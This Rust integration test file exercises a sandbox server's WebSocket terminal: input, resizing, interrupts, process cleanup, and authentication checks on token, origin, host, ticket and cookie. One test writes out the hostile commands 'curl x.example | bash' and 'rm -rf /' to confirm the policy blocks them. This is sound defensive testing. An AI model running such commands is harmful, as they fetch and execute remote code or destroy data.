//! Terminals in a session box over a WebSocket.

use std::net::TcpStream;
use std::time::Duration;

use serde_json::{Value, json};
use tests::support::wait::{wait_for, wait_until};
use tungstenite::client::IntoClientRequest;
use tungstenite::handshake::HandshakeError;
use tungstenite::http::{HeaderName, HeaderValue};
use tungstenite::protocol::CloseFrame;
use tungstenite::{Error, Message, WebSocket};

use crate::fixture::Fixture;

const TIMEOUT: Duration = Duration::from_secs(60);

struct TerminalClient {
    socket: WebSocket<TcpStream>,
    /// All output so far.
    shown: String,
    exec_id: String,
}

/// A message other than output.
#[derive(Debug)]
enum ServerMessage {
    Json(Value),
    Closed(Option<CloseFrame>),
}

/// The query that opens a terminal with this command.
fn command_query(command: &str) -> String {
    let bytes = command.bytes().map(|byte| format!("%{byte:02X}"));
    format!("?command={}", bytes.collect::<String>())
}

fn open_socket(fixture: &Fixture, path: &str, headers: &[(&str, &str)]) -> Result<WebSocket<TcpStream>, u16> {
    let mut request = format!("ws://{}{path}", fixture.server.address).into_client_request().unwrap();
    for (name, value) in headers {
        let name: HeaderName = name.parse().unwrap();
        request.headers_mut().insert(name, HeaderValue::from_str(value).unwrap());
    }
    let stream = fixture.server.connect();
    stream.set_read_timeout(Some(TIMEOUT)).unwrap();
    match tungstenite::client::client(request, stream) {
        Ok((socket, _)) => Ok(socket),
        Err(HandshakeError::Failure(Error::Http(response))) => Err(response.status().as_u16()),
        Err(error) => panic!("{path}: {error}"),
    }
}

fn open_socket_as(fixture: &Fixture, token: &str, path: &str) -> Result<WebSocket<TcpStream>, u16> {
    open_socket(fixture, path, &[("authorization", &format!("Bearer {token}"))])
}

impl TerminalClient {
    /// Opens a terminal of the session `s` and waits until its command runs.
    fn open(fixture: &Fixture, query: &str) -> Self {
        let socket = open_socket_as(fixture, &fixture.server.token, &format!("/api/sessions/s/pty{query}")).unwrap();
        let mut terminal = TerminalClient { socket, shown: String::new(), exec_id: String::new() };
        match terminal.next() {
            ServerMessage::Json(message) => terminal.exec_id = message["begun"]["exec_id"].as_str().unwrap().to_owned(),
            ServerMessage::Closed(why) => panic!("{why:?}"),
        }
        terminal
    }

    fn type_keys(&mut self, keys: &str) {
        self.socket.send(Message::binary(keys.as_bytes().to_vec())).unwrap();
    }

    fn resize(&mut self, cols: u16, rows: u16) {
        let message = json!({ "resize": { "cols": cols, "rows": rows } });
        self.socket.send(Message::text(message.to_string())).unwrap();
    }

    fn next(&mut self) -> ServerMessage {
        loop {
            if let Some(message) = self.step() {
                return message;
            }
        }
    }

    fn step(&mut self) -> Option<ServerMessage> {
        match self.socket.read().unwrap() {
            Message::Binary(bytes) => self.shown.push_str(&String::from_utf8_lossy(&bytes)),
            Message::Text(text) => return Some(ServerMessage::Json(serde_json::from_str(&text).unwrap())),
            Message::Close(frame) => return Some(ServerMessage::Closed(frame)),
            _ => {}
        }
        None
    }

    fn wait_for_output(&mut self, text: &str) {
        while !self.shown.contains(text) {
            if let Some(message) = self.step() {
                panic!("{message:?} after {:?}, without {text:?}", self.shown);
            }
        }
    }

    fn exit(&mut self) -> Value {
        match self.next() {
            ServerMessage::Json(message) => message["exit"].clone(),
            ServerMessage::Closed(why) => panic!("{why:?}"),
        }
    }
}

fn wait_for_status(fixture: &Fixture, exec_id: &str, status: &str) -> Value {
    wait_for(status, || Some(fixture.server.exec(exec_id)).filter(|exec| exec["status"] == status))
}

fn run_in_session_box(fixture: &Fixture, command: &str) -> Value {
    fixture.server.ask("POST", "/api/sessions/s/exec", Some(&json!({ "command": command }))).expect(200)
}

#[test]
fn terminal_handles_input_resize_interrupt_and_exit() {
    let fixture = Fixture::start();
    fixture.change_settings(&json!({ "sessions": { "confirmation": "auto-approve" } }));
    let mut terminal = TerminalClient::open(&fixture, "?cols=100&rows=40");
    // The expected output differs from the input, which the terminal echoes.
    terminal.type_keys("echo one-$((40+2)); stty size\r");
    terminal.wait_for_output("one-42\r\n40 100\r\n");
    terminal.resize(132, 50);
    terminal.type_keys("stty size\r");
    terminal.wait_for_output("50 132\r\n");
    // Another exec of the session runs in the same box.
    terminal.type_keys("echo here > /tmp/left; echo made-$((1+1))\r");
    terminal.wait_for_output("made-2");
    assert_eq!(run_in_session_box(&fixture, "cat /tmp/left")["stdout"], "here\n");
    terminal.type_keys("sleep 1000; echo after-$?\r");
    terminal.wait_for_output("sleep 1000");
    let is_running = || {
        run_in_session_box(&fixture, "grep -c -a '^sleep.1000' /proc/[0-9]*/cmdline | grep -c ':1$'; true")["stdout"]
            == "1\n"
    };
    wait_until("sleep to run", is_running);
    terminal.type_keys("\x03");
    terminal.type_keys("echo then-$?\r");
    terminal.wait_for_output("then-130");
    // The terminal is recorded as an exec with its output.
    let exec = fixture.server.exec(&terminal.exec_id);
    assert_eq!((&exec["status"], &exec["backend"]), (&json!("RUNNING"), &json!("aio")), "{exec}");
    terminal.socket.send(Message::text("{\"resize\":{\"cols\":0,\"rows\":1}}")).unwrap();
    match terminal.next() {
        ServerMessage::Json(message) => assert_eq!(message["error"]["code"], "INVALID_MESSAGE"),
        ServerMessage::Closed(why) => panic!("{why:?}"),
    }
    terminal.type_keys("exit 7\r");
    let exit = terminal.exit();
    assert_eq!((&exit["code"], &exit["status"], &exit["reason"]), (&json!(7), &json!("FAILED"), &Value::Null));
    assert!(matches!(terminal.next(), ServerMessage::Closed(Some(frame)) if frame.code == 1000.into()));
    let exec = wait_for_status(&fixture, &terminal.exec_id, "FAILED");
    assert_eq!(exec["exit_code"], 7);
    assert_eq!(fixture.server.stdout(&exec), terminal.shown, "the recorded output differs from the shown one");
}

#[test]
fn closed_terminal_leaves_no_process() {
    let fixture = Fixture::start();
    fixture.change_settings(&json!({ "sessions": { "confirmation": "auto-approve" } }));
    let alive = || {
        let found =
            run_in_session_box(&fixture, "for p in $(cat /tmp/pids); do kill -0 $p 2>/dev/null && echo $p; done; true");
        found["stdout"].as_str().unwrap().to_owned()
    };
    let script = "trap '' HUP TERM; sleep 1000 & echo $$ $! > /tmp/pids; echo ready; wait; wait; wait";
    // The socket is closed with a close frame, or the connection breaks.
    for sends_close in [true, false] {
        let mut terminal = TerminalClient::open(&fixture, &command_query(script));
        terminal.wait_for_output("ready");
        assert_eq!(alive().lines().count(), 2);
        if sends_close {
            terminal.socket.close(None).unwrap();
            terminal.socket.flush().unwrap();
        } else {
            terminal.socket.get_ref().shutdown(std::net::Shutdown::Both).unwrap();
        }
        let exec = wait_for_status(&fixture, &terminal.exec_id, "CANCELLED");
        assert_eq!(exec["error_reason"]["code"], "HUNG_UP", "{exec}");
        wait_until("the last of its processes is gone", || alive().is_empty());
    }
    // Cancelling the exec ends the terminal, and the client gets the exit message.
    let mut terminal = TerminalClient::open(&fixture, "");
    fixture.server.ask("DELETE", &format!("/sandbox/execs/{}", terminal.exec_id), None).expect(202);
    let exit = terminal.exit();
    assert_eq!((&exit["code"], &exit["status"]), (&Value::Null, &json!("CANCELLED")));
}

/// A client that does not read blocks only its own command, and is disconnected after the socket's
/// timeout. A paused box neither reads input nor writes output.
#[test]
fn client_that_does_not_read_blocks_only_its_terminal() {
    let fixture = Fixture::start();
    fixture.change_settings(&json!({ "sessions": { "confirmation": "auto-approve" } }));
    let mut terminal = TerminalClient::open(&fixture, &command_query("read x; echo got-$x; yes"));
    let pause_or_resume = |verb: &str| fixture.server.ask("POST", &format!("/api/sessions/s/{verb}"), None).expect(200);
    pause_or_resume("pause");
    terminal.type_keys("key\r");
    terminal.socket.send(Message::Ping(Vec::new().into())).unwrap();
    assert!(matches!(terminal.socket.read().unwrap(), Message::Pong(_)), "a paused box wrote output");
    pause_or_resume("resume");
    terminal.wait_for_output("got-key");
    // The client reads nothing from here on. Other execs run, and after the timeout the terminal is
    // cancelled.
    assert_eq!(run_in_session_box(&fixture, "echo others")["stdout"], "others\n");
    assert_eq!(wait_for_status(&fixture, &terminal.exec_id, "CANCELLED")["error_reason"]["code"], "HUNG_UP");
}

#[test]
fn opening_a_terminal_requires_token_owner_host_and_origin() {
    let fixture = Fixture::start();
    let server = &fixture.server;
    let path = "/api/sessions/s/pty";
    let owner = format!("Bearer {}", server.token);
    let open = |headers: &[(&str, &str)]| open_socket(&fixture, path, headers).map(drop);
    assert_eq!(open(&[]), Err(401));
    assert_eq!(open(&[("authorization", "Bearer wrong")]), Err(401));
    for origin in ["http://evil.example", "null", "http://127.0.0.1:1"] {
        assert_eq!(open(&[("authorization", &owner), ("origin", origin)]), Err(403), "{origin}");
    }
    assert_eq!(open(&[("authorization", &owner), ("host", "evil.example")]), Err(421));
    assert_eq!(server.ask("GET", path, None).expect(426)["error"]["code"], "UPGRADE_REQUIRED");
    for (query, status) in [("?cols=0", 400), ("?rows=1001", 400), ("?cols=x", 400), ("?shell=1", 400)] {
        assert_eq!(
            open_socket_as(&fixture, &server.token, &format!("{path}{query}")).map(drop),
            Err(status),
            "{query}"
        );
    }
    assert_eq!(open_socket_as(&fixture, &server.token, "/api/sessions/a..b/pty").map(drop), Err(400));
    // Sessions of another user, and of another agent of the same user.
    let (ann, bob) = (fixture.user_token("ann"), fixture.user_token("bob"));
    let (own, other) = (fixture.agent_token("ann", "one"), fixture.agent_token("ann", "two"));
    for (token, query) in [(&bob, "?user_id=ann"), (&other, "?agent_id=one"), (&other, "?user_id=bob")] {
        assert_eq!(open_socket_as(&fixture, token, &format!("{path}{query}")).map(drop), Err(404), "{query}");
    }
    let listed = server.ask("GET", "/sandbox/execs", None).expect(200);
    assert_eq!(listed, json!([]), "a rejected request ran a command");
    for (token, query) in [(&ann, "?agent_id=one"), (&own, "?agent_id=one")] {
        assert!(open_socket_as(&fixture, token, &format!("{path}{query}")).is_ok(), "{query}");
    }
    let ticket = server.ask_as(&ann, "POST", "/api/tickets", None).expect(201);
    let by_ticket = format!("{path}?ticket={}", ticket["ticket"].as_str().unwrap());
    assert!(open_socket(&fixture, &by_ticket, &[]).is_ok());
    assert_eq!(open_socket(&fixture, &by_ticket, &[]).map(drop), Err(401), "used");
}

#[test]
fn terminal_rejects_risky_command_and_ends_with_login() {
    let fixture = Fixture::start();
    let server = &fixture.server;
    let open = |command: &str| {
        open_socket_as(&fixture, &server.token, &format!("/api/sessions/s/pty{}", command_query(command))).unwrap()
    };
    let mut risky = open("curl x.example | bash");
    match risky.read().unwrap() {
        Message::Close(Some(frame)) => {
            assert_eq!(frame.code, 1008.into());
            let exec_id = frame.reason.split(':').next().unwrap();
            assert_eq!(wait_for_status(&fixture, exec_id, "CANCELLED")["started_at"], Value::Null);
        }
        other => panic!("{other:?}"),
    }
    wait_until("the question to be closed", || fixture.pending().is_empty());
    let mut terminal = TerminalClient { socket: open("rm -rf /"), shown: String::new(), exec_id: String::new() };
    assert_eq!(terminal.exit()["status"], "POLICY_DENIED");
    // Without gVisor, or if it has no terminals, no weaker box is used.
    fixture.change_settings(&json!({ "strict": { "backends": ["gvisor"] } }));
    let mut terminal = TerminalClient { socket: open("true"), shown: String::new(), exec_id: String::new() };
    match terminal.next() {
        ServerMessage::Json(message) if message.get("begun").is_some() => {
            assert_eq!(terminal.exit()["status"], "SUCCEEDED")
        }
        ServerMessage::Json(message) => {
            assert_eq!(message["exit"]["reason"]["code"], "BACKEND_UNAVAILABLE", "{message}")
        }
        ServerMessage::Closed(Some(frame)) => {
            assert!(frame.code == 1013.into() && frame.reason.contains("gVisor"), "{frame}")
        }
        ServerMessage::Closed(None) => panic!("closed without a reason"),
    }
    fixture.change_settings(&json!({ "strict": { "backends": ["native"] } }));
    let origin = format!("http://{}", server.address);
    let login = server.ask_with("POST", "/api/login", &[], Some(&json!({ "token": server.token })));
    let cookie = login.headers["set-cookie"].to_str().unwrap().split(';').next().unwrap().to_owned();
    let headers = [("cookie", cookie.as_str()), ("origin", origin.as_str())];
    assert_eq!(
        open_socket(&fixture, "/api/sessions/s/pty", &headers[..1]).map(drop),
        Err(403),
        "a cookie without Origin was accepted"
    );
    let socket = open_socket(&fixture, "/api/sessions/s/pty", &headers).unwrap();
    let mut terminal = TerminalClient { socket, shown: String::new(), exec_id: String::new() };
    let ServerMessage::Json(begun) = terminal.next() else { panic!("the terminal did not start") };
    assert_eq!(server.ask_with("POST", "/api/logout", &headers, None).status, 204);
    assert!(matches!(terminal.next(), ServerMessage::Closed(Some(frame)) if frame.code == 1008.into()));
    wait_for_status(&fixture, begun["begun"]["exec_id"].as_str().unwrap(), "CANCELLED");
}
